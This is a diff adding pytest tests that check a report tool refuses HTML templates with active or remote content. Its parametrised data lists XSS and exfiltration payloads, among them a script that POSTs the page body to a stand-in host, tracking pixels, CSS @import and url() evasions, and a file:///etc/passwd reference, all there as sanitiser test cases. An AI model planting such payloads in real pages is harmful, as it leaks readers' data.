@@ -113,3 +113,149 @@ def test_a_template_that_accumulates_memory_is_stopped(cli: CliRunner, repo: Rep
     code, out, err = _report(cli, repo, "--template", str(template))
     assert (code, out) == (2, "")
     assert f"template {template}:1 ran out of memory; simplify the template" in err
+
+
+# -- the HTML paper: no active or remote content ----------------------------------------------
+
+ACTIVE = [
+    (
+        '<script>fetch("http://127.0.0.1:9/", {method: "POST", body: document.body.innerHTML})'
+        "</script>",
+        "(<script>)",
+    ),
+    ('<img src="http://127.0.0.1:9/pixel.png">', '(<img src="http://127.0.0.1:9/pixel.png">)'),
+    ('<iframe src="http://127.0.0.1:9/"></iframe>', "(<iframe"),
+    ('<object data="http://127.0.0.1:9/x.swf"></object>', "(<object"),
+    ('<embed src="http://127.0.0.1:9/x">', "(<embed"),
+    ('<div onclick="alert(1)">x</div>', '(<div onclick="alert(1)">)'),
+    ('<p onmouseover="alert(1)">x</p>', "onmouseover"),
+    ('<a href="http://127.0.0.1:9/">a link out</a>', '(<a href="http://127.0.0.1:9/">)'),
+    ('<a href="javascript:alert(1)">x</a>', "javascript:alert(1)"),
+    ('<link rel="stylesheet" href="http://127.0.0.1:9/x.css">', "(<link"),
+    ('<base href="http://127.0.0.1:9/">', "(<base"),
+    ('<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">', "http-equiv"),
+    ('<form action="http://127.0.0.1:9/"><input name="q"></form>', "(<form"),
+    ("<svg><script>alert(1)</script></svg>", "(<script>)"),
+    ('<svg><use href="http://127.0.0.1:9/s.svg#a"></use></svg>', "(<use"),
+    ('<svg><image href="http://127.0.0.1:9/i.png"></image></svg>', "(<image"),
+    ("<svg><foreignObject><p>x</p></foreignObject></svg>", "(<foreignobject>)"),
+    (
+        '<svg><rect fill="url(http://127.0.0.1:9/p.svg#g)"></rect></svg>',
+        "url(http://127.0.0.1:9/p.svg#g) in CSS in the fill of <rect>",
+    ),
+    (
+        '<span style="background: url(http://127.0.0.1:9/b.png)">x</span>',
+        "url(http://127.0.0.1:9/b.png) in CSS in the style of <span>",
+    ),
+    ("<style>@import url(http://127.0.0.1:9/x.css);</style>", "(@import in CSS)"),
+    ('<style>@import "x.css";</style>', "(@import in CSS)"),
+    ("<style>@media print { @import url(x.css); }</style>", "(@import in CSS)"),
+    (
+        "<style>p { background: url(http://127.0.0.1:9/b.png) }</style>",
+        "(url(http://127.0.0.1:9/b.png) in CSS)",
+    ),
+    (
+        "<style>p { background: u\\72l(http://127.0.0.1:9/b.png) }</style>",
+        "(url(http://127.0.0.1:9/b.png) in CSS)",
+    ),
+    (
+        '<style>p { background: URL("file:///etc/passwd") }</style>',
+        "(url(file:///etc/passwd) in CSS)",
+    ),
+    (
+        '<style>p { background: image-set("http://127.0.0.1:9/b.png" 1x) }</style>',
+        "(url(http://127.0.0.1:9/b.png) in CSS)",
+    ),
+    (
+        "<style>@font-face { font-family: x; src: url(//127.0.0.1:9/f.woff) }</style>",
+        "(url(//127.0.0.1:9/f.woff) in CSS)",
+    ),
+    ("<style>p { width: expression(alert(1)) }</style>", "(expression() in CSS)"),
+    ("<svg><style>@import url(http://127.0.0.1:9/x.css);</style></svg>", "(@import in CSS)"),
+    ("<svg><style>&#64;import url(http://127.0.0.1:9/x.css);</style></svg>", "(@import in CSS)"),
+]
+
+
+@pytest.mark.parametrize(("markup", "says"), ACTIVE)
+def test_a_template_with_active_or_remote_content_is_refused(
+    cli: CliRunner, repo: RepoBuilder, markup: str, says: str
+) -> None:
+    """A `templates/report.html.j2` with `<script>fetch(...)</script>` or
+    `<img src="http://...">` was kept: opening the closed HTML in Chromium sent the whole
+    paper to a server. Now the template is refused, naming it and what it asked for."""
+    (repo.root / "templates").mkdir()
+    repo.write("templates/report.html.j2", f"<h1>{{{{ r.title }}}}</h1>\n{markup}\n<p>end</p>\n")
+    code, out, err = _report(cli, repo, "--session", "closed", "--format", "html")
+    assert (code, out) == (2, "")
+    assert err.startswith("psstrat: error: template report.html.j2: the paper would carry ")
+    assert says in err, err
+    assert err.endswith("; papers carry none, remove it from the template\n")
+    assert "Traceback" not in err and len(err.splitlines()) == 1
+
+
+@pytest.mark.parametrize(
+    "tag",
+    [
+        '<body onload="alert(1)">',
+        "<body class='draft'>",
+        '<html manifest="x.appcache">',
+        '<head profile="x">',
+        "<body/onload=alert(1)>",
+    ],
+)
+def test_attributes_on_the_document_shell_are_refused(
+    cli: CliRunner, repo: RepoBuilder, tag: str
+) -> None:
+    """ammonia cleans fragments: it drops `<html>`, `<head>`, `<body>` and their attributes
+    unseen, so `<body onload=...>` would vanish silently. psstrat writes the shell itself and
+    refuses an attribute the template puts on it (except `<html lang>`)."""
+    (repo.root / "templates").mkdir()
+    repo.write("templates/report.html.j2", f"<!DOCTYPE html>\n{tag}\n<p>{{{{ r.title }}}}</p>\n")
+    code, _, err = _report(cli, repo, "--format", "html")
+    assert code == 2
+    assert "template report.html.j2: psstrat writes the paper's <html>, <head> and <body>" in err
+    assert err.endswith("; put attributes on an element inside them\n")
+
+
+def test_the_paper_is_psstrats_shell_around_the_cleaned_template(
+    cli: CliRunner, repo: RepoBuilder
+) -> None:
+    """Doctype, language, charset and a Content-Security-Policy that allows nothing remote
+    and no script come first, whatever the template wrote; a template's own full document
+    (as older overrides have) is accepted, its `<html lang>` carried over."""
+    (repo.root / "templates").mkdir()
+    repo.write(
+        "templates/report.html.j2",
+        '<!DOCTYPE html>\n<html lang="cy">\n<head>\n<meta charset="utf-8">\n'
+        "<title>{{ r.title }}</title>\n<!-- a comment -->\n</head>\n<body>\n"
+        '<p class="x" style="color: #333; background: url(data:image/png;base64,AA==)">'
+        '{{ r.title }} <a href="#summary">up</a></p>\n</body>\n</html>\n',
+    )
+    code, out, err = _report(cli, repo, "--format", "html")
+    assert code == 0, err
+    assert out.startswith(
+        '<!DOCTYPE html>\n<html lang="cy">\n<meta charset="utf-8">\n'
+        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
+        "style-src 'unsafe-inline'; img-src data:; font-src data:; base-uri 'none'; "
+        "form-action 'none'\">\n"
+    )
+    assert "<title>Test Strategy: progress report, Q3 2004/05</title>" in out
+    assert '<a href="#summary">up</a>' in out and "a comment" not in out
+    assert "<body" not in out and "<head" not in out
+
+
+@pytest.mark.parametrize("session", ["open", "closed"])
+@pytest.mark.parametrize("extra", [[], ["--as-of", "2004-12-30"], ["--strand", "S1"]])
+def test_the_packaged_paper_passes_its_own_cleaning(
+    cli: CliRunner, session: str, extra: list[str]
+) -> None:
+    """Everything the packaged templates write (the draft watermark, both charts, every
+    table) is on the allowlist: nothing of it is refused or removed."""
+    from tests.test_security import ROOT
+
+    code, out, err = invoke(
+        cli, "report", "--root", str(ROOT), *Q3, "-f", "html", "--session", session, *extra
+    )
+    assert code == 0, err
+    assert out.count("<svg") == (1 if extra[:1] == ["--strand"] else 2)
+    assert 'role="img" aria-labelledby="heat-title heat-desc"' in out
